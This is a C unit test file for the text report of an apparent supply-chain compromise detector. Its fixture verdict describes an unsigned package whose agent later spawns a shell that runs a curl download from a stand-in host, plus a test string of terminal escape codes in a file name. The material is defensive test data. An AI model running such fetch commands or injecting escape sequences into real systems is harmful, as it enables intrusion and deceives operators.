/* SPDX-License-Identifier: Apache-2.0 */
/* Verdicts for people. Expected lines follow from the sample by hand. */
#include "sample.h"

#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static struct sample sample;
static struct sink sink;

static void prepare(void)
{
	sample_init(&sample);
}

static void write_text(uint32_t flags, uint32_t width)
{
	schain_error error = SCHAIN_ERROR_INIT;

	memset(&sink, 0, sizeof sink);
	ck_assert_int_eq(schain_report_write_text(&sample.verdict, flags, width, sink_write, &sink,
	                                          &error),
	                 SCHAIN_OK);
}

static void expect(const char *part)
{
	ck_assert_msg(strstr(sink.data, part) != NULL, "no \"%s\" in\n%.3000s", part, sink.data);
}

static void expect_not(const char *part)
{
	ck_assert_msg(strstr(sink.data, part) == NULL, "\"%s\" in\n%.3000s", part, sink.data);
}

START_TEST(the_headline_says_how_bad_what_where_and_when)
{
	write_text(SCHAIN_REPORT_ASCII, 80);
	/* 10 ^ (6 / 10) = 3.98 */
	ck_assert_ptr_eq(strstr(sink.data, "MEDIUM  acme-agent 2.3.1 -> 2.4.0 on build-7.example\n"
	                                   "score +6, 4 to 1 for a compromise, confidence 80 %\n"
	                                   "2026-03-01 12:00:00 to 2026-03-13 12:00:02 UTC (12 d)\n"),
	                 sink.data);
}
END_TEST

START_TEST(the_chain_is_a_tree_in_order_of_time)
{
	write_text(SCHAIN_REPORT_ASCII, 100);
	/* Gaps: 12:00:02 to 12:02:00 is 118 s; 12:02:00 to noon twelve days after is 11 d 23:58. */
	expect("What happened\n"
	       "  delivery -> write -> first run -> child -> egress\n"
	       "                      acme-agent 2.3.1 -> 2.4.0\n"
	       "  2026-03-01\n"
	       "  12:00:00            |- installer /usr/bin/dpkg (pid 412, root)\n"
	       "                      |  |  dpkg --unpack acme-agent_2.4.0_amd64.deb\n"
	       "  12:00:01  +1 s      |  |- wrote /usr/bin/acme-agent (ELF, unsigned)\n"
	       "  12:00:02  +1 s      |  `- wrote /usr/share/acme/hook.sh (script)\n"
	       "  12:02:00  +1 min    `- first run /usr/bin/acme-agent (pid 733, root)\n"
	       "                         |  acme-agent --daemon\n"
	       "  2026-03-13             |  ... 11 d 23 h of silence ...\n"
	       "  12:00:00  +11 d        `- child /usr/bin/dash (pid 801, root)\n"
	       "                            |  sh -c 'curl -s https://cdn.acme-updates.example/x'\n"
	       "  12:00:01  +1 s            `- child /usr/bin/curl (pid 802, root)\n"
	       "                               |  curl -s https://cdn.acme-updates.example/x\n"
	       "  12:00:02  +1 s               `- -> cdn.acme-updates.example (203.0.113.9) port "
	       "443/tcp,\n"
	       "                                  unapproved, 3x\n");
}
END_TEST

START_TEST(the_weights_add_up_to_the_score)
{
	write_text(SCHAIN_REPORT_ASCII, 100);
	expect("    -18    -18  #########  before this evidence\n");
	expect("     +6    -12  ###        delivery.unsigned_package\n");
	expect("     +1    -11  #          write.program_path, 2x\n");
	expect("     +2     -9  #          first_run.image\n");
	expect("     +5     -4  ###        child.shell\n");
	expect("    +10     +6  #####      egress.unapproved_host\n");
	expect("                2026-03-13 12:00:02 connection, auditd record 1773403202.000:9007\n"
	       "  Records are of audit.log\n");
	expect_not("line 14");
	write_text(SCHAIN_REPORT_ASCII | SCHAIN_REPORT_LINES, 120);
	expect("record 1773403202.000:9007 line 14\n");
	sample.signals[0].origin = SCHAIN_STRING("dpkg.log");
	write_text(SCHAIN_REPORT_ASCII | SCHAIN_REPORT_LINES, 120);
	expect("record 1772366400.000:101 of dpkg.log line 10\n");
	expect("record 1773403202.000:9007 of audit.log line 14\n");
	expect_not("Records are of");
}
END_TEST

START_TEST(what_to_do_and_what_was_not_seen_come_last)
{
	write_text(SCHAIN_REPORT_ASCII, 80);
	expect("\nFiles\n"
	       "  /usr/bin/acme-agent\n"
	       "    ELF, unsigned, written 2026-03-01 12:00:01\n"
	       "    sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n"
	       "  /usr/share/acme/hook.sh\n"
	       "    script, signature not known, written 2026-03-01 12:00:02\n"
	       "\nNot seen\n"
	       "  - dns: which names were asked for before the connection\n"
	       "\nIsolate\n"
	       "  - host build-7.example\n"
	       "\nPreserve\n"
	       "  - /usr/bin/acme-agent\n"
	       "  - memory of process 733\n"
	       "\nATT&CK T1195.002 DET0309 AN0863, verdict 4f2a9c0d11e8b763 revision 3, final\n");
}
END_TEST

/* Every drawing character is one column wide, so columns are code points. */
static size_t longest_line(void)
{
	size_t longest = 0, columns = 0;

	for (const char *at = sink.data; *at; at++) {
		if (*at == '\n') {
			ck_assert_msg(at == sink.data || at[-1] != ' ', "a line ends in a space");
			columns = 0;
		} else if (((unsigned char)*at & 0xc0) != 0x80) {
			columns++;
		}
		longest = columns > longest ? columns : longest;
	}
	return longest;
}

START_TEST(no_line_is_wider_than_the_terminal)
{
	sample.files[1].path = SCHAIN_STRING("/opt/a-very-long-directory-name-without-any-spaces/that-goes"
	                                     "-on-and-on-and-on-and-on-and-on-and-on-and-on/and-on/hook");
	sample.verdict.product = SCHAIN_STRING("a product whose name is a whole sentence, because some "
	                                       "vendors do that, and on it goes to the end of the line");
	for (uint32_t width = 48; width <= 132; width++) {
		write_text(0, width);
		ck_assert_uint_le(longest_line(), width);
	}
	write_text(0, 0);
	ck_assert_uint_le(longest_line(), 80);
	write_text(0, 1);
	ck_assert_uint_le(longest_line(), 48);
	write_text(0, UINT32_MAX);
	ck_assert_uint_le(longest_line(), 132);
}
END_TEST

START_TEST(hostile_names_are_shown_and_not_obeyed)
{
	sample.processes[1].image = SCHAIN_STRING("/opt/\x1b]0;owned\x07\r\n\x1b[2Jfdp.\xe2\x80\xae" "exe\xff");
	write_text(0, 132);
	expect("/opt/\\x1b]0;owned\\x07\\x0d\\x0a\\x1b[2Jfdp.\\u{202e}exe\\xff");
	for (size_t i = 0; i < sink.length; i++)
		ck_assert_msg((unsigned char)sink.data[i] >= 0x20 || sink.data[i] == '\n',
		              "byte %d at %zu", sink.data[i], i);
}
END_TEST

START_TEST(ascii_means_ascii)
{
	sample.verdict.product = SCHAIN_STRING("caf\xc3\xa9");
	write_text(SCHAIN_REPORT_ASCII, 80);
	expect("caf\\u{e9}");
	for (size_t i = 0; i < sink.length; i++)
		ck_assert_uint_lt((unsigned char)sink.data[i], 0x80);
}
END_TEST

START_TEST(colours_change_nothing_but_colours)
{
	static char plain[sizeof sink.data];
	size_t length = 0;

	write_text(0, 80);
	memcpy(plain, sink.data, sink.length + 1);
	expect_not("\x1b");
	write_text(SCHAIN_REPORT_COLOR, 80);
	ck_assert_ptr_eq(strstr(sink.data, "\x1b[33mMEDIUM\x1b[0m"), sink.data);
	for (size_t i = 0; i < sink.length; i++) {
		if (sink.data[i] == '\x1b')
			while (sink.data[i] != 'm')
				i++;
		else
			sink.data[length++] = sink.data[i];
	}
	sink.data[length] = 0;
	ck_assert_str_eq(sink.data, plain);
}
END_TEST

START_TEST(brief_is_one_line)
{
	write_text(SCHAIN_REPORT_BRIEF | SCHAIN_REPORT_ASCII, 40);
	ck_assert_str_eq(sink.data,
	                 "MEDIUM      +6  2026-03-01 12:00:00  build-7.example  acme-agent 2.3.1 -> 2.4.0"
	                 "  delivery -> write -> first run -> child -> egress  4f2a9c0d11e8b763\n");
}
END_TEST

START_TEST(an_installer_that_wrote_much_is_cut_short_in_the_tree_only)
{
	static schain_verdict_file files[20];
	static char paths[20][24];

	for (size_t i = 0; i < 20; i++) {
		files[i] = sample.files[0];
		snprintf(paths[i], sizeof paths[i], "/opt/acme/part-%02zu", i);
		files[i].path = schain_string_of(paths[i]);
	}
	sample.verdict.files = files;
	sample.verdict.file_count = 20;
	write_text(SCHAIN_REPORT_ASCII, 80);
	expect("|- wrote /opt/acme/part-07 (ELF, unsigned)\n");
	expect("`- wrote 12 more files, listed below\n"); /* 20 - 8 */
	expect_not("wrote /opt/acme/part-08");
	expect("\n  /opt/acme/part-19\n");
}
END_TEST

START_TEST(signals_that_nothing_else_stands_for_are_in_the_tree)
{
	sample.signals[3].stage = SCHAIN_STAGE_PERSISTENCE;
	sample.signals[3].text = SCHAIN_STRING("sh wrote /etc/cron.d/acme");
	write_text(SCHAIN_REPORT_ASCII, 100);
	expect("  12:00:00                  |- ! sh wrote /etc/cron.d/acme\n");
}
END_TEST

START_TEST(a_command_line_that_is_only_the_program_is_not_repeated)
{
	sample.processes[1].image = SCHAIN_STRING("C:\\Acme\\Agent.exe");
	sample.processes[1].command_line = SCHAIN_STRING("\"c:\\acme\\agent.exe\" ");
	sample.processes[2].command_line = SCHAIN_STRING_NONE;
	write_text(SCHAIN_REPORT_ASCII, 100);
	expect_not("c:\\acme\\agent.exe");
	sample.processes[1].command_line = SCHAIN_STRING("\"c:\\acme\\agent.exe\" -k");
	write_text(SCHAIN_REPORT_ASCII, 100);
	expect("|  \"c:\\acme\\agent.exe\" -k\n");
}
END_TEST

START_TEST(a_verdict_with_no_more_than_a_level_is_still_a_report)
{
	memset(&sample.verdict, 0, sizeof sample.verdict);
	sample.verdict.struct_size = sizeof sample.verdict;
	write_text(SCHAIN_REPORT_ASCII, 80);
	ck_assert_ptr_eq(strstr(sink.data, "INFO  unnamed software\nscore +0, even odds, confidence 0 %\n"),
	                 sink.data);
}
END_TEST

START_TEST(references_that_lead_nowhere_hang_on_the_root)
{
	sample.processes[1].parent = 3; /* a parent that comes later */
	sample.processes[2].parent = 2; /* its own parent */
	sample.files[0].process = 99;
	sample.destinations[0].process = 5;
	write_text(SCHAIN_REPORT_ASCII, 100);
	expect("  12:00:01            |- wrote /usr/bin/acme-agent (ELF, unsigned)\n");
	expect("|- first run /usr/bin/acme-agent");
	expect("- child /usr/bin/dash");
	expect("- -> cdn.acme-updates.example");
}
END_TEST

START_TEST(a_deep_chain_ends_in_a_remark)
{
	static schain_verdict_process processes[5000];

	for (uint32_t i = 0; i < 5000; i++) {
		processes[i] = sample.processes[1];
		processes[i].parent = i ? i - 1 : UINT32_MAX;
	}
	sample.verdict.processes = processes;
	sample.verdict.process_count = 5000;
	write_text(SCHAIN_REPORT_ASCII, 80);
	expect("more below it is not drawn\n");
}
END_TEST

START_TEST(extreme_numbers_do_not_break_the_page)
{
	sample.verdict.score = INT32_MIN;
	sample.verdict.level = UINT32_MAX;
	sample.verdict.first_time = INT64_MIN;
	sample.verdict.last_time = INT64_MAX;
	sample.signals[0].weight = INT32_MAX;
	sample.signals[0].stage = UINT32_MAX;
	sample.signals[0].time = INT64_MIN;
	sample.processes[3].time = INT64_MIN;
	sample.processes[2].time = INT64_MAX;
	sample.processes[1].role = UINT32_MAX;
	sample.files[0].content = UINT32_MAX;
	sample.verdict.omitted_count = 7;
	write_text(0, 80);
	expect("UNKNOWN LEVEL  acme-agent");
	expect("score -2147483648, over a million to 1 against a compromise");
	expect("7 more pieces of evidence are left out.");
}
END_TEST

START_TEST(what_memory_had_no_room_for_is_not_seen)
{
	sample.verdict.forgotten_since = INT64_C(1767225600) * SCHAIN_SECOND; /* 2026-01-01 */
	sample.verdict.forgotten_deliveries = 1;
	sample.verdict.forgotten_files = 300;
	write_text(0, 80);
	expect("memory, short since 2026-01-01T00:00:00Z: forgotten, 1 delivery, 300\n");
}
END_TEST

START_TEST(what_a_store_did_not_keep_or_give_is_said)
{
	sample.verdict.unkept_since = INT64_C(1767225600) * SCHAIN_SECOND; /* 2026-01-01 */
	sample.verdict.unread_since = INT64_C(1767225600) * SCHAIN_SECOND;
	sample.verdict.unread = 2;
	write_text(0, 80);
	expect("state, not readable since 2026-01-01T00:00:00Z, 2 deliveries\n");
	expect("what happened since 2026-01-01T00:00:00Z is in memory only\n");
}
END_TEST

START_TEST(odds_are_the_score_as_a_ratio)
{
	static const struct {
		int32_t score;
		const char *odds;
	} cases[] = {
		{ 1, "1.3 to 1 for" },   { 3, "2 to 1 for" },     { 4, "2.5 to 1 for" },
		{ 10, "10 to 1 for" },   { 13, "20 to 1 for" },   { 29, "790 to 1 for" },
		{ -18, "63 to 1 against" }, { 60, "over a million to 1 for" },
	};

	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		sample.verdict.score = cases[i].score;
		write_text(0, 80);
		expect(cases[i].odds);
	}
}
END_TEST

START_TEST(what_cannot_be_read_is_refused)
{
	schain_error error = SCHAIN_ERROR_INIT;

	ck_assert_int_eq(schain_report_write_text(NULL, 0, 0, sink_write, &sink, &error),
	                 SCHAIN_E_ARGUMENT);
	ck_assert_int_eq(schain_report_write_text(&sample.verdict, 0, 0, NULL, NULL, &error),
	                 SCHAIN_E_ARGUMENT);
	sample.processes[0].struct_size = 4;
	ck_assert_int_eq(schain_report_write_text(&sample.verdict, 0, 0, sink_write, &sink, &error),
	                 SCHAIN_E_TOO_SMALL);
	sample_init(&sample);
	memset(&sink, 0, sizeof sink);
	sink.stop_after = 1;
	sample.files[0].signer.data = sink.data;
	sample.files[0].signer.length = 20000;
	ck_assert_int_eq(schain_report_write_text(&sample.verdict, 0, 0, sink_write, &sink, &error),
	                 SCHAIN_E_CANCELLED);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("report/text");
	TCase *tests = tcase_create("text");
	SRunner *runner;
	int failed;

	tcase_add_checked_fixture(tests, prepare, NULL);
	tcase_add_test(tests, the_headline_says_how_bad_what_where_and_when);
	tcase_add_test(tests, the_chain_is_a_tree_in_order_of_time);
	tcase_add_test(tests, the_weights_add_up_to_the_score);
	tcase_add_test(tests, what_to_do_and_what_was_not_seen_come_last);
	tcase_add_test(tests, no_line_is_wider_than_the_terminal);
	tcase_add_test(tests, hostile_names_are_shown_and_not_obeyed);
	tcase_add_test(tests, ascii_means_ascii);
	tcase_add_test(tests, colours_change_nothing_but_colours);
	tcase_add_test(tests, brief_is_one_line);
	tcase_add_test(tests, an_installer_that_wrote_much_is_cut_short_in_the_tree_only);
	tcase_add_test(tests, signals_that_nothing_else_stands_for_are_in_the_tree);
	tcase_add_test(tests, a_command_line_that_is_only_the_program_is_not_repeated);
	tcase_add_test(tests, a_verdict_with_no_more_than_a_level_is_still_a_report);
	tcase_add_test(tests, references_that_lead_nowhere_hang_on_the_root);
	tcase_add_test(tests, a_deep_chain_ends_in_a_remark);
	tcase_add_test(tests, extreme_numbers_do_not_break_the_page);
	tcase_add_test(tests, what_memory_had_no_room_for_is_not_seen);
	tcase_add_test(tests, what_a_store_did_not_keep_or_give_is_said);
	tcase_add_test(tests, odds_are_the_score_as_a_ratio);
	tcase_add_test(tests, what_cannot_be_read_is_refused);
	suite_add_tcase(suite, tests);
	runner = srunner_create(suite);
	srunner_run_all(runner, CK_ENV);
	failed = srunner_ntests_failed(runner);
	srunner_free(runner);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
